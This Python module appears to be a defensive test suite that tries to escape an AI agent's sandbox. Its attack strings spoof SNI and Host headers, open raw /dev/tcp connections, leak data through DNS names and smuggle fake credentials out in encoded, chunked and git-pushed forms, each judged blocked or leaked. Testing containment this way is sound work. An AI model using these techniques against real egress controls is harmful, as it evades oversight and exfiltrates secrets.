"""The escape suite: attacks run from inside a bottle's agent, each judged blocked or LEAKED.

The same suite backs `bottle-tui selftest SLUG` (against a live bottle and a canary container of
our own) and the integration tests (against the tests' fake internet). Every attack is a bash
snippet run in the agent container; all of them go in one `docker exec` so the suite takes
seconds. A snippet prints what it saw; the judge reads it:

- LEAKED when an upstream of ours answered (its replies carry ``"fake_internet": true``), a
  direct connection opened (``CONNECTED``), a name resolved (``RESOLVED``) or a push landed
  (``PUSHED``);
- blocked when the expected refusal shows (egress's or DLP's 403 marker, ``UNREACHABLE``,
  ``REJECTED``);
- anything else is UNCLEAR, which fails the suite like a leak: a test that cannot tell is no proof.

Secrets are generated per run in the shapes gitleaks' rules know (AWS access key, GitHub token,
Slack token, private key); they are fake, and never leave the machine: the attacks aim only at
hosts the bottle's own egress answers for, at a container of ours, or at addresses with no route.
"""

from __future__ import annotations

import base64
import hashlib
import json
import secrets
import shlex
import string
import urllib.parse
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

LEAK_MARKERS = ('"fake_internet": true', "CONNECTED", "RESOLVED", "PUSHED")
EXPECT_MARKERS = {
    "egress": "egress: blocked",
    "dlp": "dlp: blocked",
    "dlp-stream": "dlp: blocked",
    "unreachable": "UNREACHABLE",
    "rejected": "REJECTED",
}
CURL = "curl -sS --max-time 8"
# The status code on a line of its own after the body, so the judge sees both.
CURL_W = "-w '\\nHTTP %{http_code}\\n'"
BEGIN, END = "@@BEGIN ", "@@END "


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at. Every name here must resolve, on the bottle's egress side, only to
    a container of our own (the tests' fake internet, or selftest's canary)."""

    allowed: str  # a host a route allows over http and https, without a credential
    blocked: str  # a host no route allows
    direct_ip: str  # our container's address on the egress network: the agent must not reach it
    authed: str | None = None  # a host whose route injects a credential (https)
    placeholder_env: str | None = None  # the agent's env var holding that route's placeholder
    auth_scheme: str = "header"  # that route's scheme: bearer | basic | header
    auth_header: str | None = "X-Api-Key"  # the header it injects, for the header scheme
    git_remote: str | None = None  # the git gate's URL of the bottle's repository, when it has one


@dataclass(frozen=True)
class Attack:
    id: str
    what: str
    script: str
    expect: str  # a key of EXPECT_MARKERS, or "control" (must reach the upstream)
    # For "dlp-stream": the request path whose DLP block egress must have logged when the
    # connection was closed instead of answered.
    log_path: str | None = None
    # For the injection control: (scheme, env var of the credential, header of the header scheme).
    injects: tuple[str, str, str | None] | None = None


@dataclass(frozen=True)
class AttackResult:
    attack: Attack
    verdict: str  # blocked | LEAKED | UNCLEAR | pass | FAIL
    detail: str

    @property
    def ok(self) -> bool:
        return self.verdict in ("blocked", "pass")

    def line(self) -> str:
        return f"{self.verdict:<8} {self.attack.id:<34} {self.attack.what}" + (
            f"  ({self.detail})" if self.detail else ""
        )


def _rand(alphabet: str, n: int) -> str:
    return "".join(secrets.choice(alphabet) for _ in range(n))


@dataclass(frozen=True)
class FakeSecrets:
    """One fake secret of each shape, fresh per run."""

    aws: str = field(default_factory=lambda: "AKIA" + _rand(string.ascii_uppercase + "234567", 16))
    github: str = field(default_factory=lambda: "ghp_" + _rand(string.ascii_letters + string.digits, 36))
    slack: str = field(
        default_factory=lambda: (
            "xoxb-"
            + _rand(string.digits, 12)
            + "-"
            + _rand(string.digits, 12)
            + "-"
            + _rand(string.ascii_letters + string.digits, 24)
        )
    )
    private_key: str = field(
        default_factory=lambda: (
            "-----BEGIN PRIVATE KEY-----\n"
            + "\n".join(base64.b64encode(secrets.token_bytes(48)).decode() for _ in range(6))
            + "\n-----END PRIVATE KEY-----"
        )
    )

    def tokens(self) -> dict[str, str]:
        """The one-line shapes (usable in a URL or a header)."""
        return {"aws": self.aws, "github": self.github, "slack": self.slack}

    def all(self) -> dict[str, str]:
        return {**self.tokens(), "private-key": self.private_key}


def _q(text: str) -> str:
    return shlex.quote(text)


def _http_attacks(t: Targets, s: FakeSecrets) -> list[Attack]:
    a, b = t.allowed, t.blocked
    out = [
        Attack("host-not-listed-http", f"GET http://{b}/", f"{CURL} {CURL_W} http://{b}/x", "egress"),
        Attack("host-not-listed-https", f"GET https://{b}/ (CONNECT)", f"{CURL} {CURL_W} https://{b}/x", "egress"),
        Attack(
            "spoofed-host-header",
            f"http://{a}/ with Host: {b}",
            f"{CURL} {CURL_W} -H 'Host: {b}' http://{a}/x",
            "egress",
        ),
        Attack(
            "spoofed-host-header-tls",
            f"https://{a}/ with Host: {b}",
            f"{CURL} {CURL_W} -H 'Host: {b}' https://{a}/x",
            "egress",
        ),
        Attack("spoofed-sni", f"CONNECT {a}:443, TLS SNI {b}", _tls_tunnel_script(a, sni=b, target="/x"), "egress"),
        Attack(
            "fronting-in-tunnel",
            f"CONNECT {a}:443, then GET http://{b}/ inside",
            _tls_tunnel_script(a, sni=a, target=f"http://{b}/x"),
            "egress",
        ),
        Attack(
            "raw-ip-via-proxy",
            f"GET http://{t.direct_ip}/ through egress",
            f"{CURL} {CURL_W} http://{t.direct_ip}/x",
            "egress",
        ),
        Attack("allowed-host-other-port", f"GET http://{a}:8081/", f"{CURL} {CURL_W} http://{a}:8081/x", "egress"),
        Attack("non-http-in-tunnel", f"CONNECT {a}:80, then raw non-HTTP bytes", _raw_tunnel_script(a), "unreachable"),
        Attack(
            "websocket-blocked-host",
            f"websocket upgrade to ws://{b}/",
            f"{CURL} {CURL_W} -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' "
            f"-H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' http://{b}/ws",
            "egress",
        ),
        Attack(
            "proxy-vars-unset",
            f"GET http://{a}/ with no proxy",
            f"{CURL} --noproxy '*' --max-time 4 http://{a}/x 2>/dev/null || echo UNREACHABLE",
            "unreachable",
        ),
        Attack(
            "proxy-vars-unset-ip",
            f"GET http://{t.direct_ip}/ with no proxy",
            f"{CURL} --noproxy '*' --max-time 4 http://{t.direct_ip}/x 2>/dev/null || echo UNREACHABLE",
            "unreachable",
        ),
    ]
    for port in (22, 53, 80, 443):
        out.append(
            Attack(
                f"direct-tcp-{port}",
                f"TCP connect {t.direct_ip}:{port}",
                f"timeout 4 bash -c 'exec 3<>/dev/tcp/{t.direct_ip}/{port}' 2>/dev/null && echo CONNECTED || echo UNREACHABLE",
                "unreachable",
            )
        )
    out += [
        Attack(
            "ipv6-mapped",
            f"TCP connect [::ffff:{t.direct_ip}]:80",
            f'timeout 4 python3 -c "import socket; s=socket.socket(socket.AF_INET6); s.settimeout(3); '
            f"s.connect(('::ffff:{t.direct_ip}', 80)); print('CONNECTED')\" 2>/dev/null || echo UNREACHABLE",
            "unreachable",
        ),
        Attack(
            "ipv6-route",
            "any IPv6 route out",
            "ip -6 route 2>/dev/null | grep -q default && echo CONNECTED-default-v6-route || echo UNREACHABLE",
            "unreachable",
        ),
        Attack(
            "dns-crafted-name",
            f"resolve <secret>.{b}",
            f"timeout 4 getent hosts {s.aws.lower()}.{b} && echo RESOLVED || echo UNREACHABLE",
            "unreachable",
        ),
        Attack(
            "dns-direct-udp",
            f"DNS query straight to {t.direct_ip}:53",
            'timeout 5 python3 -c "import socket,os; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); '
            f"q=os.urandom(2)+bytes.fromhex('01000001000000000000')+b'\\x04leak\\x04test\\x00\\x00\\x01\\x00\\x01'; "
            f"s.sendto(q, ('{t.direct_ip}', 53)); s.recv(512); print('CONNECTED')\" 2>/dev/null || echo UNREACHABLE",
            "unreachable",
        ),
    ]
    return out


def _tunnel(proxy_var: str, target: str) -> str:
    """Python lines that open a CONNECT tunnel to ``target`` through the agent's egress proxy,
    leaving the socket in ``s``."""
    return f"""
import os, socket, ssl, time
p = os.environ.get('{proxy_var}') or os.environ['{proxy_var.lower()}']
host, port = p.rsplit('/', 1)[-1].rsplit(':', 1)
s = socket.create_connection((host, int(port)), timeout=8)
s.sendall(b'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n')
s.recv(4096)
"""


def _tls_tunnel_script(allowed: str, *, sni: str, target: str) -> str:
    """CONNECT to ``allowed``:443 through egress, speak TLS with ``sni``, then send a request for
    ``target`` (origin-form "/x", or absolute-form "http://other/x") with Host: ``allowed``."""
    code = (
        _tunnel("HTTPS_PROXY", f"{allowed}:443")
        + f"""
ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
ctx.check_hostname = False
t = ctx.wrap_socket(s, server_hostname='{sni}')
t.sendall(b'GET {target} HTTP/1.1\\r\\nHost: {allowed}\\r\\nConnection: close\\r\\n\\r\\n')
data = b''
while True:
    chunk = t.recv(65536)
    if not chunk:
        break
    data += chunk
print(data.decode(errors='replace'))
"""
    )
    return f"timeout 15 python3 -c {_q(code)} 2>&1"


def _raw_tunnel_script(allowed: str) -> str:
    # Whatever egress does with bytes that are not HTTP, they must not reach the upstream (whose
    # HTTP server would answer "400 Bad request"), and the tunnel must close at once, not hang.
    code = (
        _tunnel("HTTP_PROXY", f"{allowed}:80")
        + """
start = time.monotonic()
s.sendall(b'SSH-2.0-OpenSSH_9.2\\r\\n' + os.urandom(64))
data = b''
try:
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
except socket.timeout:
    print('HUNG: the tunnel stayed open for 8 s')
if b'Bad request' in data or b'Bad Request' in data:
    print('CONNECTED: the upstream received the raw bytes')
elif time.monotonic() - start < 8:
    print('UNREACHABLE: closed after %.1f s' % (time.monotonic() - start))
"""
    )
    return f"timeout 15 python3 -c {_q(code)} 2>&1"


def _dlp_attacks(t: Targets, s: FakeSecrets) -> list[Attack]:
    a = t.allowed
    out: list[Attack] = []

    def add(kind: str, place: str, what: str, script: str) -> None:
        out.append(Attack(f"dlp-{kind}-{place}", f"{kind} secret in {what}", script, "dlp"))

    for kind, secret in s.tokens().items():
        enc = urllib.parse.quote(secret, safe="")
        add(kind, "path", "the URL path", f"{CURL} {CURL_W} http://{a}/upload/{enc}")
        add(kind, "query", "the query", f"{CURL} {CURL_W} 'http://{a}/q?token={enc}'")
        add(kind, "header", "a custom header", f"{CURL} {CURL_W} -H {_q('X-Debug: ' + secret)} http://{a}/h")
        add(kind, "cookie", "a cookie", f"{CURL} {CURL_W} -b {_q('session=' + secret)} http://{a}/c")
        add(kind, "user-agent", "the user agent", f"{CURL} {CURL_W} -A {_q('tool/1.0 ' + secret)} http://{a}/ua")
        json_body = _q(json.dumps({"key": secret}))
        add(
            kind,
            "json-https",
            "a JSON body over TLS",
            f"{CURL} {CURL_W} -H 'Content-Type: application/json' --data-binary {json_body} https://{a}/json",
        )
        add(kind, "form", "a form body", f"{CURL} {CURL_W} --data-urlencode {_q('key=' + secret)} http://{a}/form")
        add(
            kind,
            "base64",
            "a base64-encoded body",
            f"{CURL} {CURL_W} --data-binary "
            f"{_q('blob=' + base64.b64encode(('token: ' + secret).encode()).decode())} http://{a}/b64",
        )
        add(
            kind,
            "hex",
            "a hex-encoded query",
            f"{CURL} {CURL_W} 'http://{a}/hex?d={(('token=' + secret).encode()).hex()}'",
        )
        add(
            kind,
            "percent",
            "a percent-encoded body",
            f"{CURL} {CURL_W} --data-binary "
            f"{_q('d=' + ''.join(f'%{c:02X}' for c in ('key=' + secret).encode()))} http://{a}/pct",
        )
    for kind, secret in s.all().items():
        body = f"config:\n  credential: {secret}\n"
        add(
            kind,
            "multipart",
            "a multipart upload",
            f"printf %s {_q(body)} > /tmp/st-{kind}.txt && "
            f"{CURL} {CURL_W} -F file=@/tmp/st-{kind}.txt https://{a}/upload",
        )
        add(
            kind,
            "gzip",
            "a gzip body",
            f"printf %s {_q(body)} | gzip -c | {CURL} {CURL_W} -H 'Content-Encoding: gzip' "
            f"--data-binary @- https://{a}/gz",
        )
        # Streamed: egress holds back what could still be a secret and closes the connection on a
        # hit (no 403 can follow headers that have left); the judge then wants egress's log line.
        out.append(
            Attack(
                f"dlp-{kind}-chunked",
                f"{kind} secret in a chunked body",
                f"printf %s {_q(body)} | {CURL} {CURL_W} -H 'Transfer-Encoding: chunked' "
                f"--data-binary @- http://{a}/chunked/{kind}",
                "dlp-stream",
                log_path=f"/chunked/{kind}",
            )
        )
        add(
            kind,
            "h2-stream",
            "an HTTP/2 upload of unknown length",
            f"printf %s {_q(body)} | {CURL} {CURL_W} --http2 -T - https://{a}/h2",
        )
    return out


def _git_attacks(t: Targets, s: FakeSecrets) -> list[Attack]:
    if not t.git_remote:
        return []
    out = []
    for kind, secret in s.all().items():
        script = (
            f"set -e; d=$(mktemp -d); cd $d; git clone -q {_q(t.git_remote)} repo 2>&1 | tail -2; cd repo; "
            f"git checkout -q -b selftest-{kind}-$$; printf %s {_q('credential = ' + secret + chr(10))} > leak-{kind}.txt; "
            f"git add leak-{kind}.txt; git -c user.email=st@bottle -c user.name=selftest commit -qm 'add config'; "
            f"if git push -q origin HEAD 2>&1; then echo PUSHED; else echo REJECTED; fi"
        )
        out.append(
            Attack(f"git-push-{kind}", f"git push of a commit with a {kind} secret", f"( {script} ) 2>&1", "rejected")
        )
    script = (
        f"set -e; d=$(mktemp -d); cd $d; git init -q r; cd r; git commit -q --allow-empty -m x; "
        f"if timeout 20 git push -q http://{t.blocked}/repo.git HEAD:main 2>&1; then echo PUSHED; else echo REJECTED; fi"
    )
    out.append(
        Attack(
            "git-push-other-remote", f"git push to http://{t.blocked}/ (not the gate)", f"( {script} ) 2>&1", "rejected"
        )
    )
    return out


def injected_header(scheme: str, value: str, header: str | None) -> tuple[str, str]:
    """The header (name, value) egress sends upstream for a route's credential ``value`` (the
    same rule as egress's routes.auth_headers)."""
    if scheme == "bearer":
        return "Authorization", f"Bearer {value}"
    if scheme == "basic":
        return "Authorization", "Basic " + base64.b64encode(value.encode()).decode("ascii")
    return header or "X-Api-Key", value


def _controls(t: Targets) -> list[Attack]:
    out = [
        Attack(
            "control-allowed-http",
            f"GET http://{t.allowed}/ passes",
            f"{CURL} {CURL_W} http://{t.allowed}/control",
            "control",
        ),
        Attack(
            "control-allowed-https",
            f"GET https://{t.allowed}/ passes",
            f"{CURL} {CURL_W} https://{t.allowed}/control",
            "control",
        ),
    ]
    if t.authed and t.placeholder_env:
        # The agent sends its placeholder where the route's scheme puts a credential; egress must
        # put the real one there.
        name, value = injected_header(t.auth_scheme, f"${t.placeholder_env}", t.auth_header)
        if t.auth_scheme == "basic":  # base64 of the placeholder, as a client would send it
            value = f'Basic $(printf %s "${t.placeholder_env}" | base64 -w0)'
        out.append(
            Attack(
                "control-credential-injected",
                f"https://{t.authed}/ gets the real credential upstream ({t.auth_scheme} auth, {name})",
                f'{CURL} {CURL_W} -i -H "{name}: {value}" https://{t.authed}/control',
                "control",
                injects=(t.auth_scheme, t.placeholder_env, t.auth_header),
            )
        )
    return out


def build_suite(targets: Targets, fake: FakeSecrets | None = None) -> list[Attack]:
    fake = fake or FakeSecrets()
    return _http_attacks(targets, fake) + _dlp_attacks(targets, fake) + _git_attacks(targets, fake) + _controls(targets)


def suite_script(attacks: list[Attack]) -> str:
    """One bash script that runs every attack and frames each one's output."""
    parts = ["exec 2>&1"]
    for at in attacks:
        parts.append(f"echo {_q(BEGIN + at.id)}; ( {at.script} ) </dev/null; echo; echo {_q(END + at.id)}")
    return "\n".join(parts) + "\n"


def split_output(text: str) -> dict[str, str]:
    found: dict[str, str] = {}
    current: str | None = None
    lines: list[str] = []
    for line in text.splitlines():
        if line.startswith(BEGIN):
            current, lines = line[len(BEGIN) :].strip(), []
        elif line.startswith(END) and current is not None:
            found[current] = "\n".join(lines)
            current = None
        elif current is not None:
            lines.append(line)
    return found


def _status(out: str) -> str:
    codes = [line[5:].strip() for line in out.splitlines() if line.startswith("HTTP ")]
    return codes[-1] if codes else ""


def judge(
    attack: Attack,
    out: str | None,
    *,
    real_secrets: dict[str, str],
    log: list[dict[str, Any]] | None = None,
    credentials: dict[str, str] | None = None,
) -> AttackResult:
    """Blocked or LEAKED (attacks), pass or FAIL (controls), from what the attack printed (and,
    for a streamed body whose connection egress closed, from egress's requests.jsonl ``log``).
    ``real_secrets`` are looked for in what the agent saw; ``credentials`` (default: the same)
    are the values egress injects, whose upstream arrival the injection control checks by digest
    (a credential too short to look for is still checked there)."""
    if out is None:
        return AttackResult(
            attack, "UNCLEAR" if attack.expect != "control" else "FAIL", "no output: the attack did not finish"
        )
    for name, value in real_secrets.items():
        if value and value in out:
            return AttackResult(
                attack, "LEAKED" if attack.expect != "control" else "FAIL", f"the real {name} reached the agent"
            )
    code = _status(out)
    if attack.expect == "control":
        if '"fake_internet": true' not in out:
            return AttackResult(attack, "FAIL", f"upstream did not answer (HTTP {code or '?'})")
        if attack.injects is not None:
            scheme, env, header = attack.injects
            injected = (real_secrets if credentials is None else credentials).get(env)
            if not injected:
                return AttackResult(attack, "FAIL", f"${env} is not set here, so its injection cannot be checked")
            carrier, sent = injected_header(scheme, injected, header)
            if hashlib.sha256(sent.encode()).hexdigest() not in out:
                return AttackResult(
                    attack, "FAIL", f"upstream did not receive the real {env} in {carrier} ({scheme} auth)"
                )
        return AttackResult(attack, "pass", f"HTTP {code}" if code else "")
    leak = next((m for m in LEAK_MARKERS if m in out), None)
    if leak:
        return AttackResult(attack, "LEAKED", f"saw {leak!r}")
    marker = EXPECT_MARKERS[attack.expect]
    if marker in out:
        return AttackResult(attack, "blocked", f"HTTP {code}" if code else marker)
    if attack.expect == "dlp-stream" and code == "000":
        logged = [
            e for e in log or [] if e.get("decision") == "block" and e.get("dlp") and e.get("path") == attack.log_path
        ]
        if logged:
            rules = ",".join(f["rule"] for f in logged[-1]["dlp"].get("findings", [])) or "cap"
            return AttackResult(attack, "blocked", f"connection closed mid-body; egress logged dlp {rules}")
        return AttackResult(attack, "UNCLEAR", "connection closed, but egress logged no DLP block for it")
    tail = " ".join(out.strip().splitlines()[-2:])[:160]
    return AttackResult(attack, "UNCLEAR", f"expected {marker!r}; saw: {tail or 'nothing'}")


def judge_all(
    attacks: list[Attack],
    output: str,
    *,
    real_secrets: dict[str, str],
    log: list[dict[str, Any]] | None = None,
    credentials: dict[str, str] | None = None,
) -> list[AttackResult]:
    found = split_output(output)
    return [judge(a, found.get(a.id), real_secrets=real_secrets, log=log, credentials=credentials) for a in attacks]


def read_log(path: str | Path) -> list[dict[str, Any]]:
    """egress's requests.jsonl (and its rotated predecessors are not needed: a run is seconds)."""
    try:
        with open(path, encoding="utf-8") as fh:
            return parse_requests_log(fh.read())
    except OSError:
        return []


def parse_requests_log(text: str) -> list[dict[str, Any]]:
    """The entries of a requests.jsonl's text (a line that is not JSON is skipped)."""
    entries = []
    for line in text.splitlines():
        try:
            entries.append(json.loads(line))
        except ValueError:
            continue
    return entries


def report(outcomes: list[AttackResult]) -> str:
    attacks = [o for o in outcomes if o.attack.expect != "control"]
    controls = [o for o in outcomes if o.attack.expect == "control"]
    lines = [o.line() for o in attacks + controls]
    bad = [o for o in outcomes if not o.ok]
    lines.append(
        f"{len(attacks)} attacks: {sum(o.ok for o in attacks)} blocked, "
        f"{sum(o.verdict == 'LEAKED' for o in attacks)} LEAKED, {sum(o.verdict == 'UNCLEAR' for o in attacks)} unclear; "
        f"{len(controls)} controls: {sum(o.ok for o in controls)} pass" + ("" if not bad else " — FAILED")
    )
    return "\n".join(lines)
